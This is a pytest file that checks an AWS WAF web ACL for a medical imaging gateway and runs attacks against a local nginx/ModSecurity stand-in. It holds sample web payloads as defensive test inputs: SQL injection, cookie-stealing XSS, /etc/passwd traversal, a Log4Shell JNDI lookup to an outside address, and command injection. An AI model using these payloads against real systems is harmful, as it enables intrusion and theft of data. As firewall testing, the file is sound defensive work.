"""The firewall's rules by their structure, and a stand-in that shows the idea at work.

AWS's managed rules run in AWS alone. The stand-in is nginx with ModSecurity and the OWASP core rule
set before a small server, with the web ACL's own expressions as the exception for uploads: it shows
that attacks are refused, that ten megabytes pass whole, and that the exception is as narrow as
meant. What AWS's rules match it does not show, and the body it reads does not end after 8 KB.
"""

import json
import re
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import numpy as np
import pytest
from cv2 import IMWRITE_JPEG_QUALITY, imencode

from gateway.app.application import create_app
from gateway.settings import Settings
from preprocess import MediaType
from tests.support.aws import ROOT, Package, free_port
from tests.support.tools import tool

# The managed groups' rules that look into a body, as AWS's documentation lists them.
BODY_RULES = {
    "AWSManagedRulesCommonRuleSet": {
        "SizeRestrictions_BODY",
        "EC2MetaDataSSRF_BODY",
        "GenericLFI_BODY",
        "GenericRFI_BODY",
        "CrossSiteScripting_BODY",
    },
    "AWSManagedRulesKnownBadInputsRuleSet": {
        "JavaDeserializationRCE_BODY",
        "Log4JRCE_BODY",
        "ReactJSRCE_BODY",
    },
    "AWSManagedRulesSQLiRuleSet": {"SQLi_BODY", "SQLiExtendedPatterns_BODY"},
    "AWSManagedRulesAmazonIpReputationList": set(),
}
# And the one header rule that DICOM peers trip.
COUNTED = {**BODY_RULES}
COUNTED["AWSManagedRulesCommonRuleSet"] = COUNTED["AWSManagedRulesCommonRuleSet"] | {
    "NoUserAgent_HEADER"
}
NAMESPACES = {
    "AWSManagedRulesCommonRuleSet": "core-rule-set",
    "AWSManagedRulesKnownBadInputsRuleSet": "known-bad-inputs",
    "AWSManagedRulesSQLiRuleSet": "sql-database",
}


UID = "1.2.840.10008.1.2"


@pytest.fixture
def rules(dev: Package) -> list[dict[str, Any]]:
    """The rules by priority."""
    return sorted(dev.properties("WebAcl")["Rules"], key=lambda rule: rule["Priority"])


def managed(rule: dict[str, Any]) -> dict[str, Any] | None:
    found: dict[str, Any] | None = rule["Statement"].get("ManagedRuleGroupStatement")
    return found


def test_the_managed_groups_count_body_rules_and_block_by_the_rest(
    rules: list[dict[str, Any]],
) -> None:
    counted = {}
    for rule in rules:
        if group := managed(rule):
            assert rule["OverrideAction"] == {"None": {}}
            overrides = group.get("RuleActionOverrides", [])
            assert all(override["ActionToUse"] == {"Count": {}} for override in overrides)
            counted[group["Name"]] = {override["Name"] for override in overrides}
    assert counted == COUNTED


def test_every_counted_rule_blocks_by_its_label_off_the_upload_paths(
    rules: list[dict[str, Any]],
) -> None:
    last = rules[-1]
    assert last["Action"] == {"Block": {}}
    labelled, exempt = last["Statement"]["AndStatement"]["Statements"]
    keys = {
        statement["LabelMatchStatement"]["Key"]
        for statement in labelled["OrStatement"]["Statements"]
    }
    assert keys == {
        f"awswaf:managed:aws:{NAMESPACES[group]}:{_label(name)}"
        for group, names in COUNTED.items()
        for name in names
    }
    method, path, content_type = exempt["NotStatement"]["Statement"]["AndStatement"]["Statements"]
    assert method["ByteMatchStatement"]["SearchString"] == "POST"
    assert path["RegexMatchStatement"]["FieldToMatch"] == {"UriPath": {}}
    assert path["RegexMatchStatement"]["TextTransformations"] == [{"Priority": 0, "Type": "NONE"}]
    assert content_type["RegexMatchStatement"]["FieldToMatch"] == {
        "SingleHeader": {"Name": "content-type"}
    }


def test_every_route_that_takes_pictures_is_exempt_and_no_other(
    rules: list[dict[str, Any]],
) -> None:
    _, path, content_type = (
        next(iter(each.values()))["RegexString"] if "RegexMatchStatement" in each else ""
        for each in exemption(rules)
    )
    taken = {
        (route.replace("{study_instance_uid}", UID), media_type)
        for route, operations in create_app(Settings()).openapi()["paths"].items()
        for media_type in operations.get("post", {}).get("requestBody", {}).get("content", ())
    }
    pictures = {pair for pair in taken if pair[1] != "application/json"}
    multiparts = {"multipart/form-data", "multipart/related"}
    assert {media_type for _, media_type in pictures} == {*multiparts, *MediaType}
    for route, media_type in taken:
        sent = f"{media_type}; boundary=x" if media_type.startswith("multipart") else media_type
        exempt = re.search(path, route) and re.search(content_type, sent)
        assert bool(exempt) == ((route, media_type) in pictures), (route, media_type)


def test_studies_and_events_have_a_rate_of_their_own(
    dev: Package, rules: list[dict[str, Any]]
) -> None:
    rates = {
        rule["Name"]: rule["Statement"]["RateBasedStatement"]
        for rule in rules
        if "RateBasedStatement" in rule["Statement"]
    }
    assert rates.keys() == {"Rate", "RateOfStudies"}
    scope = rates["RateOfStudies"]["ScopeDownStatement"]
    assert rates["Rate"]["ScopeDownStatement"] == {"NotStatement": {"Statement": scope}}
    pattern = scope["RegexMatchStatement"]["RegexString"]
    paths = create_app(Settings()).openapi()["paths"]
    posted = {
        path.replace("{study_instance_uid}", UID)
        for path, operations in paths.items()
        if "post" in operations
    }
    counted_apart = {path for path in posted if re.search(pattern, path)}
    assert counted_apart == {
        *("/v1/studies", "/v1/events/s3"),
        *("/dicomweb/studies", f"/dicomweb/studies/{UID}"),
    }
    assert not any(re.search(pattern, path) for path in paths.keys() - posted)
    for rule in rules:
        if rule["Name"] in rates:
            assert rule["Action"] == {"Block": {"CustomResponse": {"ResponseCode": 429}}}
    limits = {
        name: dev.template["Parameters"][rate["Limit"]["Ref"]]["Default"]
        for name, rate in rates.items()
    }
    assert limits == {"Rate": 6000, "RateOfStudies": 150000}


def _label(rule: str) -> str:
    """SQLi_BODY → SQLi_Body, NoUserAgent_HEADER → NoUserAgent_Header."""
    name, _, part = rule.rpartition("_")
    return f"{name}_{part.capitalize()}"


@pytest.mark.parametrize(
    ("path", "is_upload"),
    [
        ("/v1/studies", True),
        ("/v1/studies/", True),
        ("/console/send/study", True),
        ("/console/rules/explain", True),
        ("/console/rules/compare", False),
        ("/console/send/samples", False),
        ("/console/sign-in", False),
        ("/v1/studies/S-1", False),
        ("/v1/studies/../events/s3", False),
        ("/v1/studies%2f..%2fevents", False),
        ("/v1/events/s3", False),
        ("//v1/studies", False),
        ("/v1/studies/1.2/series", False),
        ("/dicomweb/studies", True),
        (f"/dicomweb/studies/{UID}", True),
        ("/dicomweb/studies/..", False),
        ("/dicomweb/studies/1.2/../../events", False),
        (f"/dicomweb/studies/{UID}/series", False),
        ("/", False),
    ],
)
def test_the_upload_paths_are_these(
    path: str, is_upload: bool, rules: list[dict[str, Any]]
) -> None:
    pattern = exemption(rules)[1]["RegexMatchStatement"]["RegexString"]
    assert bool(re.search(pattern, path)) == is_upload


@pytest.mark.parametrize(
    ("content_type", "is_upload"),
    [
        ("multipart/form-data; boundary=x", True),
        ("image/jpeg", True),
        ("application/dicom; transfer-syntax=1.2.840.10008.1.2.1", True),
        ('multipart/related; type="application/dicom"; boundary=x', True),
        ("multipart/form-data", False),
        ("image/jpegs", False),
        ("image/svg+xml", False),
        ("application/json", False),
        ("application/x-www-form-urlencoded", False),
        ("text/plain; multipart/form-data;", False),
    ],
)
def test_an_upload_is_multipart(
    content_type: str, is_upload: bool, rules: list[dict[str, Any]]
) -> None:
    pattern = exemption(rules)[2]["RegexMatchStatement"]["RegexString"]
    assert bool(re.search(pattern, content_type)) == is_upload


def exemption(rules: list[dict[str, Any]]) -> list[dict[str, Any]]:
    exempt = rules[-1]["Statement"]["AndStatement"]["Statements"][1]
    found: list[dict[str, Any]] = exempt["NotStatement"]["Statement"]["AndStatement"]["Statements"]
    return found


def test_logs_hold_no_credentials(dev: Package) -> None:
    secret = {"authorization", "x-api-key", "cookie"}
    redacted = dev.properties("WebAclLogging")["RedactedFields"]
    assert secret == {f["SingleHeader"]["Name"] for f in redacted if "SingleHeader" in f}
    protections = dev.properties("WebAcl")["DataProtectionConfig"]["DataProtections"]
    assert {field["Field"]["FieldType"] for field in protections} == {
        "SINGLE_HEADER",
        "QUERY_STRING",
        "BODY",
    }
    assert set(protections[0]["Field"]["FieldKeys"]) == secret


def test_the_log_may_be_delivered_and_is_kept_as_the_audit_trail(dev: Package) -> None:
    bucket = dev.properties("WafBucket")
    # WAF takes no other names (WAF Developer Guide, "Amazon Simple Storage Service").
    assert bucket["BucketName"]["Fn::Sub"].startswith("aws-waf-logs-")
    [rule] = bucket["LifecycleConfiguration"]["Rules"]
    assert rule["ExpirationInDays"] == {"Ref": "AuditDays"}
    policies = [
        *dev.properties("WafBucketPolicy")["PolicyDocument"]["Statement"],
        *dev.properties("Key")["KeyPolicy"]["Statement"],
    ]
    allowed = [
        statement
        for statement in policies
        if statement["Principal"] == {"Service": "delivery.logs.amazonaws.com"}
    ]
    actions = [statement["Action"] for statement in allowed]
    assert actions[:2] == ["s3:GetBucketAcl", "s3:PutObject"]
    assert "kms:GenerateDataKey" in actions[2]
    account = {"Ref": "AWS::AccountId"}
    for statement in allowed:
        assert statement["Condition"]["StringEquals"]["aws:SourceAccount"] == account
    assert dev.template["Resources"]["WebAclLogging"]["DependsOn"] == ["WafBucketPolicy"]


def test_the_chart_finds_the_acl(dev: Package) -> None:
    output = dev.template["Outputs"]["WebAclArn"]
    assert output["Value"] == {"Fn::GetAtt": ["WebAcl", "Arn"]}
    assert output["Export"] == {"Name": "radstream-dev-web-acl-arn"}


# --- the stand-in ---------------------------------------------------------------------------------

MODSECURITY = """\
SecRuleEngine On
SecRequestBodyAccess On
SecRequestBodyLimit {limit}
SecRequestBodyNoFilesLimit {limit}
# The load balancer shows AWS's firewall the first 8 KB; a larger body is no offence of itself.
SecRequestBodyLimitAction ProcessPartial
SecPcreMatchLimit 500000
SecPcreMatchLimitRecursion 500000
SecTmpDir {folder}
SecDataDir {folder}
Include /etc/modsecurity/crs/crs-setup.conf
SecAction "id:1000,phase:1,nolog,pass,\
setvar:'tx.allowed_request_content_type={content_types}'"
# As ModSecurity's own recommended configuration reads JSON.
SecRule REQUEST_HEADERS:Content-Type "@rx ^application/json" \
  "id:1002,phase:1,nolog,pass,t:lowercase,ctl:requestBodyProcessor=JSON"
# The exception of waf.yml: same method, paths and content types. Bodies of uploads pass unread.
SecRule REQUEST_METHOD "@streq POST" "id:1001,phase:1,nolog,pass,chain"
  SecRule REQUEST_URI_RAW "@rx {path}" "chain"
    SecRule REQUEST_HEADERS:Content-Type "@rx {content_type}" \
      "t:lowercase,ctl:requestBodyAccess={uploads}"
Include /usr/share/modsecurity-crs/rules/*.conf
"""

CONTENT_TYPES = ("application/json", "multipart/form-data", "multipart/related")

NGINX = """\
# The worker reads pytest's private folders; as another user than root this line is passed over.
user root;
load_module /usr/lib/nginx/modules/ngx_http_modsecurity_module.so;
daemon off;
worker_processes 1;
error_log {folder}/error.log error;
pid {folder}/nginx.pid;
events {{ worker_connections 64; }}
http {{
  access_log off;
  client_body_temp_path {folder}; proxy_temp_path {folder}; fastcgi_temp_path {folder};
  uwsgi_temp_path {folder}; scgi_temp_path {folder};
  client_max_body_size 64m;
  server {{
    listen 127.0.0.1:{port};
    modsecurity on;
    modsecurity_rules_file {folder}/modsecurity.conf;
    location / {{ proxy_pass {upstream}; }}
  }}
}}
"""


class _Upstream(BaseHTTPRequestHandler):
    """Answers 200 with the number of bytes that reached it."""

    def do_POST(self) -> None:
        received = len(self.rfile.read(int(self.headers.get("Content-Length", "0"))))
        self.send_response(200)
        answer = str(received).encode()
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    def do_GET(self) -> None:
        self.do_POST()

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002  the base's name
        """Says nothing."""


@pytest.fixture(scope="module")
def upstream() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Upstream)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()
    thread.join()


def firewall(folder: Path, upstream: str, dev: Package, *, uploads: str) -> Iterator[httpx.Client]:
    """nginx with ModSecurity and the core rules; `uploads` says whether their bodies are read."""
    _, path, content_type = exemption(
        sorted(dev.properties("WebAcl")["Rules"], key=lambda rule: rule["Priority"])
    )
    port = free_port()
    (folder / "modsecurity.conf").write_text(
        MODSECURITY.format(
            folder=folder,
            limit=64 * 1024 * 1024,
            path=path["RegexMatchStatement"]["RegexString"],
            content_type=content_type["RegexMatchStatement"]["RegexString"],
            content_types=" ".join(f"|{each}|" for each in CONTENT_TYPES),
            uploads=uploads,
        )
    )
    config = folder / "nginx.conf"
    config.write_text(NGINX.format(folder=folder, port=port, upstream=upstream))
    process = subprocess.Popen([tool("nginx"), "-c", str(config), "-p", str(folder)])
    url = f"http://127.0.0.1:{port}"
    try:
        wait_for_port(port, process)
        with httpx.Client(base_url=url, timeout=30, trust_env=False) as client:
            client.headers["User-Agent"] = "radstream-test"
            # A name, since the core rules mark an address in numbers as suspicious.
            client.headers["Host"] = "radstream.example.org"
            yield client
    finally:
        process.terminate()
        process.wait(20)


def wait_for_port(port: int, process: subprocess.Popen[bytes]) -> None:
    give_up = time.monotonic() + 20
    while True:
        assert process.poll() is None, "nginx ended"
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
        except ConnectionRefusedError:
            assert time.monotonic() < give_up, "nginx does not listen"
            time.sleep(0.05)
        else:
            return


@pytest.fixture(scope="module")
def guarded(
    tmp_path_factory: pytest.TempPathFactory, upstream: str, dev: Package
) -> Iterator[httpx.Client]:
    """The stand-in with the exception for uploads."""
    yield from firewall(tmp_path_factory.mktemp("guarded"), upstream, dev, uploads="Off")


@pytest.fixture(scope="module")
def unexempted(
    tmp_path_factory: pytest.TempPathFactory, upstream: str, dev: Package
) -> Iterator[httpx.Client]:
    """The stand-in that reads the bodies of uploads too."""
    yield from firewall(tmp_path_factory.mktemp("unexempted"), upstream, dev, uploads="On")


@pytest.fixture(scope="module")
def radiograph() -> bytes:
    """A JPEG of about 10 MB: noise, which compresses badly, in a size that films have."""
    noise = np.random.default_rng(7).integers(0, 256, (3600, 4000), dtype=np.uint8)
    done, jpeg = imencode(".jpg", noise, [IMWRITE_JPEG_QUALITY, 90])
    assert done
    return bytes(jpeg)


METADATA = '{"study_id": "S-1", "view": "PA", "timestamp": "2026-01-31T08:15:00Z"}'


def upload(client: httpx.Client, path: str, image: bytes) -> httpx.Response:
    parts: dict[str, Any] = {
        "metadata": (None, METADATA, "application/json"),
        "image": ("study.jpg", image, "image/jpeg"),
    }
    return client.post(path, files=parts)


ATTACKS = {
    "SQL injection in the query": ("GET", "/v1/studies?patient_id=1'%20OR%20'1'='1'--", {}),
    "cross-site scripting in the query": ("GET", "/?q=<script>alert(1)</script>", {}),
    "path traversal": ("GET", "/v1/studies/S-1/images/..%2f..%2f..%2fetc%2fpasswd", {}),
    "local file in the query": ("GET", "/?file=../../../../etc/passwd", {}),
    "Log4Shell in the query": ("GET", "/?q=${jndi:ldap://192.0.2.1/a}", {}),
    "command injection in the query": ("GET", "/?q=;cat%20/etc/passwd", {}),
    "a scanner": ("GET", "/", {"User-Agent": "sqlmap/1.7"}),
    "a file that is none of ours": ("GET", "/.env", {}),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_stand_in_an_attack_is_refused(attack: str, guarded: httpx.Client) -> None:
    method, url, headers = ATTACKS[attack]
    assert guarded.request(method, url, headers=headers).status_code == 403


@pytest.mark.parametrize(
    "body",
    [
        "{\"name\": \"1' OR '1'='1' UNION SELECT password FROM users--\"}",
        '{"name": "<script>alert(document.cookie)</script>"}',
        '{"name": "${jndi:ldap://192.0.2.1/a}"}',
        '{"name": "../../../../etc/passwd"}',
    ],
)
def test_stand_in_an_attack_in_a_body_is_refused_off_the_upload_paths(
    body: str, guarded: httpx.Client
) -> None:
    headers = {"Content-Type": "application/json"}
    assert guarded.post("/v1/events/s3", content=body, headers=headers).status_code == 403
    # On an upload's path too, when it is not what an upload is.
    assert guarded.post("/v1/studies", content=body, headers=headers).status_code == 403


@pytest.mark.parametrize("path", ["/v1/studies"])
def test_stand_in_ten_megabytes_pass_whole(
    path: str, guarded: httpx.Client, radiograph: bytes
) -> None:
    assert len(radiograph) > 10_000_000
    answer = upload(guarded, path, radiograph)
    assert answer.status_code == 200
    assert int(answer.text) > len(radiograph)


@pytest.mark.parametrize("path", ["/dicomweb/studies", f"/dicomweb/studies/{UID}"])
def test_stand_in_a_store_transaction_passes_whole(
    path: str, guarded: httpx.Client, radiograph: bytes
) -> None:
    body = b"--b\r\nContent-Type: application/dicom\r\n\r\n%s\r\n--b--\r\n" % radiograph
    headers = {"Content-Type": 'multipart/related; type="application/dicom"; boundary=b'}
    answer = guarded.post(path, content=body, headers=headers)
    assert (answer.status_code, answer.text) == (200, str(len(body)))


def test_stand_in_an_upload_elsewhere_is_read(guarded: httpx.Client) -> None:
    attack = {"metadata": (None, "<script>alert(1)</script>", "text/plain")}
    assert guarded.post("/v1/models", files=attack).status_code == 403


def test_stand_in_it_is_the_exception_that_lets_an_uploads_body_pass(
    guarded: httpx.Client, unexempted: httpx.Client
) -> None:
    parts = {"metadata": (None, "' UNION SELECT password FROM users--", "text/plain")}
    assert unexempted.post("/v1/studies", files=parts).status_code == 403
    assert guarded.post("/v1/studies", files=parts).status_code == 200


def test_stand_in_what_the_gateway_is_asked_daily_passes(guarded: httpx.Client) -> None:
    for path in ("/", "/livez", "/v1/studies", "/v1/studies/S-1/images/1/heatmap.png"):
        assert guarded.get(path).status_code == 200
    # On one line, as AWS sends it: a line that ends in "POST Object" looks like a smuggled request.
    event = json.dumps(json.loads((ROOT / "tests/data/events/utf8.json").read_text()))
    headers = {"Content-Type": "application/json", "X-API-Key": "0123456789abcdef"}
    assert guarded.post("/v1/events/s3", content=event, headers=headers).status_code == 200
